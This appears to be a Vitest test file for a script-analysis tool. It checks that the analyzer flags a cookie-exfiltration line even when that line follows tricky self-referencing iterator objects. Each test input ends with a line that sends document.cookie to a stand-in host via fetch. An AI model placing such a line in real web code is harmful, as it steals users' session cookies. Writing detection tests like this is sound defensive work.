import { expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

const NEXT = "next: [][Symbol.iterator]().next";

test.each([
	["itself", `const it = { [Symbol.iterator]() { return this; }, ${NEXT} };`],
	[
		"one that gives it back",
		`const one = { [Symbol.iterator]: () => it, ${NEXT} }; const it = { [Symbol.iterator]: () => one, ${NEXT} };`,
	],
	["itself, later", `const it = { [Symbol.asyncIterator]() { return it; }, ${NEXT} };`],
])("an object whose iterator is %s is read to the end, and what follows is found", (_title, code) => {
	const { risk_level, vulnerabilities } = analyzeScript({
		code: `${code} for (const each of it) document.title += each; fetch("https://c.test/?" + document.cookie);`,
	});
	expect(risk_level).toBe("red");
	expect(vulnerabilities.map(({ type }) => type)).toContain("cookie-exfiltration");
});
